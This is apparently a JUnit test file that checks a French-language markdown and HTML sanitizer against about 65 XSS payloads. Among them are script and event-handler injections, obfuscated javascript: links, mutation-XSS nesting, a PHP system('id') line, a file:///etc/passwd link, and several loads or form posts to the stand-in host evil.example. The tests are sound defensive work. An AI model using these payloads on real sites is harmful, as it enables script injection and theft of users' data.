package org.vitaressources.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class HtmlSanitizerTests {
    private static final Set<String> KNOWN_ATTRIBUTES = Set.of(
            "href",
            "src",
            "alt",
            "title",
            "rel",
            "id",
            "class",
            "lang",
            "dir",
            "scope",
            "colspan",
            "rowspan",
            "abbr",
            "start",
            "reversed",
            "value",
            "open",
            "loading",
            "width",
            "height",
            "tabindex",
            "role",
            "aria-label");
    private final Markdown markdown = StandaloneText.markdown();

    static Stream<String> payloads() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" onerror\n=\"alert(1)\">",
                "<img src='javascript:alert(1)'>",
                "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
                "<img src=https://evil.example/pixel.gif>",
                "<img src=//evil.example/pixel.gif>",
                "<img src=\"\\\\evil.example\\pixel.gif\">",
                "<img srcset=\"https://evil.example/a.png 1x\" src=a.png>",
                "![x](javascript:alert(1))",
                "![x](https://evil.example/pixel.gif)",
                "![x](//evil.example/pixel.gif)",
                "![x\" onerror=\"alert(1)](a.png)",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#x0A;script:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](\u0001javascript:alert(1))",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "[x](blob:https://evil.example/1)",
                "[x]: javascript:alert(1)\n\n[x]",
                "<javascript:alert(1)>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"x\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
                "<a href=\"https://evil.example\" target=\"_blank\">x</a>",
                "<a href='/\\evil.example'>x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>@import '//evil.example/x.css'; body{display:none}</style>",
                "<div style=\"background:url(//evil.example/x)\">x</div>",
                "<p id=\"recherche\" class=\"entete\" name=\"location\">x</p>",
                "<details ontoggle=alert(1) open>x</details>",
                "<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php system('id') ?><script>alert(1)</script>",
                "`<script>`<script>alert(1)</script>",
                "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
                "[^1]\n\n[^1]: <script>alert(1)</script>",
                "```graphique\ntitre: \"</title><script>alert(1)</script>\"\nvaleurs:\n  \"<img src=x onerror=alert(1)>\": 3\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "# <img src=x onerror=alert(1)> titre",
                "{% embed url=\"javascript:alert(1)\" %}",
                "{% hint style=\"\\\"><script>alert(1)</script>\" %}\nx\n{% endhint %}",
                "::: tip <script>alert(1)</script>\nx\n:::");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void letsNothingThroughThatRunsOrLoadsFromElsewhere(String payload) {
        var rendered = markdown.render("Avant\n\n" + payload + "\n\nAprès", "", Markdown.LinkResolver.AS_WRITTEN);
        check(rendered.html());
        rendered.passages().forEach(passage -> check(passage.html()));
        check(HtmlSanitizer.sanitize(payload));
    }

    @Test
    void triesManyPayloads() {
        assertThat(payloads()).hasSizeGreaterThan(40);
    }

    private static void check(SafeHtml html) {
        for (Element element :
                Jsoup.parseBodyFragment(html.html()).body().children().select("*")) {
            if (element.closest("svg") != null) {
                assertThat(element.normalName())
                        .isIn("svg", "title", "desc", "rect", "text", "line", "circle", "polyline");
                assertThat(element.attributes().asList())
                        .noneMatch(a -> a.getKey().startsWith("on"));
                continue;
            }
            assertThat(element.normalName())
                    .as(html.html())
                    .matches(tag -> AllowList.TAGS.contains(tag) || tag.equals("div"));
            for (Attribute attribute : element.attributes()) {
                assertThat(KNOWN_ATTRIBUTES).as(html.html()).contains(attribute.getKey());
            }
            if (element.hasAttr("href")) {
                assertThat(element.attr("href"))
                        .as(html.html())
                        .matches("(?i)(https?://|mailto:|[^:\\\\]*$|#).*")
                        .doesNotContain("\\");
            }
            if (element.hasAttr("src")) {
                assertThat(element.attr("src"))
                        .as(html.html())
                        .doesNotContain(":", "\\")
                        .doesNotStartWith("//");
            }
            if (element.hasAttr("id")) {
                assertThat(element.id()).matches("(section|note|appel|graphique)-.*");
            }
        }
    }

    @Test
    void keepsTheLanguageOfAPassageAndMarksLinksThatLeave() {
        String html = HtmlSanitizer.sanitize("<p lang=en>Hello <a href=https://example.org/>there</a></p>")
                .html();
        assertThat(html).contains("<p lang=\"en\">").contains("rel=\"external noopener noreferrer\"");
    }

    @Test
    void turnsAnImageFromElsewhereIntoALink() {
        assertThat(HtmlSanitizer.sanitize("<img src=https://example.org/a.png alt=Plan>")
                        .html())
                .contains("<a href=\"https://example.org/a.png\"")
                .contains("Image : Plan")
                .doesNotContain("<img");
    }

    @Test
    void givesItemsOutsideAListAListOfTheirOwn() {
        String html = HtmlSanitizer.sanitize(
                        "<div><p>Avant</p>\n<li>Un</li>\n<li>Deux</li><p>Entre</p><li>Trois</li> mot <li>Quatre</li></div>"
                                + "<ol><li>Cinq</li></ol>")
                .html();
        Element body = Jsoup.parseBodyFragment(html).body();
        assertThat(body.select("ul"))
                .extracting(list -> list.select("> li").eachText())
                .containsExactly(List.of("Un", "Deux"), List.of("Trois"), List.of("Quatre"));
        assertThat(body.select("ol > li").eachText()).containsExactly("Cinq");
        assertThat(html).doesNotContain("data-stray");
    }
}
